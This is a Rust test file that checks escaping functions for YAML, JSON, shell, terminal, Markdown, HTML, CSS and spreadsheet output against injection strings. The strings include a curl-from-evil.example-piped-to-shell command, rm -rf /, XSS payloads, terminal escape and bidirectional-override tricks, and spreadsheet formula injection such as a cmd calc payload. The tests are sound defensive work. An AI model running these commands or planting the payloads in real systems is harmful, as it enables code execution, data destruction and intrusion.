//! Tests of the escaping functions, each fed real attack strings.

use super::*;

/// Real attacks on the runbook's languages: a new YAML key (a CodeDeploy hook), a new shell command,
/// a new JSON member, each hidden behind a line break, a quote or a bidirectional override.
const RUNBOOK_ATTACKS: &[&str] = &[
    "x\rHooks:\n  - BeforeInstall: arn:aws:lambda:eu-west-1:111122223333:function:evil",
    "x\nHooks: [evil]",
    "x\u{85}Hooks: [evil]",
    "x\u{2028}Hooks: [evil]",
    "x\" # comment\nHooks: evil",
    "x\\\" , \"assignPublicIp\": \"ENABLED",
    "x'; curl evil.example | sh; echo '",
    "$(curl evil.example)`id`",
    "\u{202e}lave\u{1b}[2J\u{0}",
    "\u{feff}\u{ffff}",
    "",
];

#[test]
fn yaml_strings_stay_one_scalar_on_one_line() {
    assert_eq!(yaml_string("payments"), "\"payments\"");
    assert_eq!(
        yaml_string(RUNBOOK_ATTACKS[0]),
        "\"x\\u000dHooks:\\u000a  - BeforeInstall: arn:aws:lambda:eu-west-1:111122223333:function:evil\""
    );
    for attack in RUNBOOK_ATTACKS {
        let y = yaml_string(attack);
        assert!(
            !y.chars().any(|c| is_hidden_control(c) || c == '\u{feff}'),
            "{y:?}"
        );
        // Inside the quotes, every `"` is escaped and every backslash starts an escape: the scalar
        // ends at the last character and nowhere before.
        let inner = &y[1..y.len() - 1];
        let mut chars = inner.chars();
        while let Some(c) = chars.next() {
            assert_ne!(c, '"', "{y:?}");
            if c == '\\' {
                assert!(matches!(chars.next(), Some('"' | '\\' | 'u')), "{y:?}");
            }
        }
    }
}

#[test]
fn json_strings_read_back_as_the_text() {
    for attack in RUNBOOK_ATTACKS {
        let j = json_string(attack);
        assert!(!j.chars().any(is_hidden_control), "{j:?}");
        let back: String = serde_json::from_str(&j).expect("valid JSON");
        assert_eq!(&back, attack);
    }
}

#[test]
fn shell_words_stay_one_word() {
    assert_eq!(shell_word("payments"), "payments");
    assert_eq!(shell_word("a b"), "'a b'");
    assert_eq!(shell_word("x'; rm -rf / #"), "'x'\\''; rm -rf / #'");
    assert_eq!(shell_word("$(curl evil)"), "'$(curl evil)'");
    assert_eq!(shell_word("--force"), "'--force'");
    assert_eq!(shell_word(""), "''");
    // Braces, brackets and angle brackets mean something to bash: always quoted.
    assert_eq!(shell_word("a={b,c}"), "'a={b,c}'");
    assert_eq!(shell_word("<x>"), "'<x>'");
    // What sh makes of the word is the text, whole.
    for attack in RUNBOOK_ATTACKS.iter().filter(|a| !a.contains('\0')) {
        let o = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("printf '%s' {}", shell_word(attack)))
            .output()
            .expect("sh runs");
        assert_eq!(String::from_utf8_lossy(&o.stdout), *attack);
    }
}

#[test]
fn terminal_text_cannot_forge_a_line_or_steer_the_terminal() {
    assert_eq!(
        terminal_quoted("alice@example.com"),
        "\"alice@example.com\""
    );
    assert_eq!(
        terminal_quoted("a\"\n\u{1b}[31mb\u{202e}c"),
        "\"a\\\"\\n\\u{1b}[31mb\\u{202e}c\""
    );
}

#[test]
fn markdown_cells_cannot_break_the_table_or_inject_markup() {
    let attack = "a|b`c<script>alert(1)</script>\n| x | y |\r\n[link](javascript:alert(1))";
    let cell = markdown_cell(attack);
    assert!(!cell.contains('\n') && !cell.contains('\r'));
    // Every pipe is escaped, so the column count cannot change.
    assert_eq!(cell.matches('|').count(), cell.matches("\\|").count());
    // Every `<` is backslash-escaped, so no HTML tag can open.
    assert!(cell
        .match_indices('<')
        .all(|(i, _)| cell[..i].ends_with('\\')));
    assert!(cell.contains("\\<script"));
    // No link can form: its brackets are escaped.
    assert!(cell.contains("\\[link\\](javascript:alert(1))"));
}

#[test]
fn identifiers_are_escaped_before_any_break_is_added() {
    assert_eq!(
        html_identifier("arn:aws:ecs:eu-west-1:1:task-set/c/s/ecs-svc/1"),
        "<bdi dir=\"ltr\">arn:<wbr>aws:<wbr>ecs:<wbr>eu-<wbr>west-<wbr>1:<wbr>1:<wbr>task-<wbr>set&#x2F;<wbr>c&#x2F;<wbr>s&#x2F;<wbr>ecs-<wbr>svc&#x2F;<wbr>1</bdi>"
    );
    for attack in [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<wbr><b>bold</b>",
        "</bdi><b>out</b><bdi>",
        "&lt;already-escaped&gt;",
        "a/<svg/onload=alert(1)>:b-c",
        "'single' \"double\" & ampersand",
        "",
    ] {
        let html = html_identifier(attack);
        let inner = html
            .strip_prefix("<bdi dir=\"ltr\">")
            .and_then(|h| h.strip_suffix("</bdi>"))
            .expect("isolated");
        // Without the breaks it added, the result is exactly Tera's escaping of the text.
        assert_eq!(
            inner.replace("<wbr>", ""),
            tera::escape_html(attack),
            "{attack}"
        );
        // The only tags inside are its own `<wbr>`s, one after each `/`, `:` or `-` of the text.
        assert_eq!(
            inner.matches('<').count(),
            inner.matches("<wbr>").count(),
            "{attack}"
        );
        assert_eq!(
            inner.matches("<wbr>").count(),
            attack.matches(IDENTIFIER_BREAKS).count(),
            "{attack}"
        );
        assert!(!inner.contains('"') && !inner.contains('\''), "{attack}");
    }
}

/// Text that would steer a terminal or reorder what is read: ESC sequences (a screen clear, a colour,
/// an OSC 8 hyperlink), NUL, BEL, DEL, the C1 CSI, a carriage return, every bidirectional control.
const HIDDEN_ATTACKS: &[&str] = &[
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "nul\u{0}del\u{7f}csi\u{9b}31m",
    "safe\roverwritten",
    "invoice\u{202e}fdp.exe",
    "\u{202a}\u{202b}\u{202c}\u{202d}\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}",
];

#[test]
fn markdown_and_html_show_hidden_characters_as_escapes() {
    assert_eq!(
        markdown_cell("a\u{1b}[2Jb\u{202e}c"),
        "a\\u001b\\[2Jb\\u202ec"
    );
    assert_eq!(
        html_text("a\u{1b}[2J<b>\u{202e}"),
        "a\\u001b[2J&lt;b&gt;\\u202e"
    );
    assert_eq!(html_text("line\r\nline\rline\tx"), "line\nline\nline\tx");
    assert_eq!(
        html_text("<plain & simple>"),
        tera::escape_html("<plain & simple>")
    );
    for attack in HIDDEN_ATTACKS {
        for (what, out) in [
            ("markdown", markdown_cell(attack)),
            ("html", html_text(attack)),
            ("identifier", html_identifier(attack)),
        ] {
            assert!(
                !out.chars()
                    .any(|c| is_hidden_control(c) && c != '\n' && c != '\t'),
                "{what}: {out:?}"
            );
            let flagged = attack.chars().any(|c| is_hidden_control(c) && c != '\r');
            assert!(!flagged || out.contains("\\u"), "{what}: {out:?}");
        }
    }
}

#[test]
fn terminal_lines_cannot_forge_a_line_or_steer_the_terminal() {
    assert_eq!(terminal_line("a.json: is empty"), "a.json: is empty");
    assert_eq!(
        terminal_line("/tmp/a\nerror: forged.json: is empty"),
        "/tmp/a\\u000aerror: forged.json: is empty"
    );
    for attack in HIDDEN_ATTACKS {
        let line = terminal_line(attack);
        assert!(!line.chars().any(is_hidden_control), "{line:?}");
    }
}

#[test]
fn css_strings_cannot_be_closed_or_leave_the_style_element() {
    assert_eq!(
        css_string("ecs16-evidence 0.1.0 · as of 2026-09-29T21:40:00Z"),
        "\"ecs16-evidence 0.1.0 \\0000b7  as of 2026-09-29T21:40:00Z\""
    );
    for attack in [
        "\"; } body { display: none } x { content: \"",
        "</style><script>alert(1)</script>",
        "\\\"",
        "\n\r\u{0}",
        "url(https://evil.example/)",
        "'",
    ] {
        let css = css_string(attack);
        let inner = &css[1..css.len() - 1];
        assert!(css.starts_with('"') && css.ends_with('"'));
        assert!(
            !inner.contains(['"', '\'', '<', '>', '&', '(', ')', ';', '{', '}', '\n']),
            "{css}"
        );
        // Every backslash starts a six-digit escape, so none can escape the closing quote.
        for (i, _) in inner.match_indices('\\') {
            let hex = &inner[i + 1..i + 7];
            assert!(hex.chars().all(|c| c.is_ascii_hexdigit()), "{css}");
        }
    }
}

#[test]
fn spreadsheet_guard() {
    for attack in [
        "=HYPERLINK(\"http://x\")",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ] {
        assert_eq!(spreadsheet_cell(attack), format!("'{attack}"));
    }
    for fine in ["arn:aws:ecs:x", "2026-09-01T00:00:00Z", "", "a=b"] {
        assert_eq!(spreadsheet_cell(fine), fine);
    }
    // A leading apostrophe is the guard's own mark, so text that has one is marked too.
    assert_eq!(spreadsheet_cell("'@x"), "''@x");
    assert_eq!(spreadsheet_cell("'quoted'"), "''quoted'");
}

#[test]
fn the_guard_sees_through_leading_blanks_and_full_width_signs() {
    // Spreadsheets trim what leads a cell before they look for `=`, and read the full-width signs as
    // the ASCII ones: each of these would start a formula.
    for attack in [
        " =HYPERLINK(\"http://evil.example\")",
        "   +1",
        "\u{a0}-2+3",
        "\u{200b}@SUM(A1)",
        "\n=1+1",
        "\n \u{a0}\u{200b}=1",
        "＝1+1",
        "＋cmd|' /C calc'!A0",
        "－2",
        "＠SUM(A1)",
        " ＝1",
    ] {
        assert!(is_formula_like(attack), "{attack:?}");
        assert_eq!(spreadsheet_cell(attack), format!("'{attack}"), "{attack:?}");
    }
    for fine in [
        " plain",
        "\u{a0}text",
        "\nline",
        "a ＝ b",
        "   ",
        "\u{200b}",
        "2026-09-01",
    ] {
        assert!(!is_formula_like(fine), "{fine:?}");
        assert_eq!(spreadsheet_cell(fine), fine);
    }
}

#[test]
fn the_guard_is_undone_exactly() {
    for text in [
        "'@",
        "@",
        "''=1",
        "'=1",
        "=1",
        "'",
        "",
        "plain",
        "'plain",
        "\t'x",
        " =1",
        "' =1",
        "\u{200b}'",
        "＝1",
        "'＝1",
        "\n",
        "\n'",
    ] {
        assert_eq!(
            unguard_spreadsheet_cell(&spreadsheet_cell(text)),
            text,
            "{text:?}"
        );
    }
}
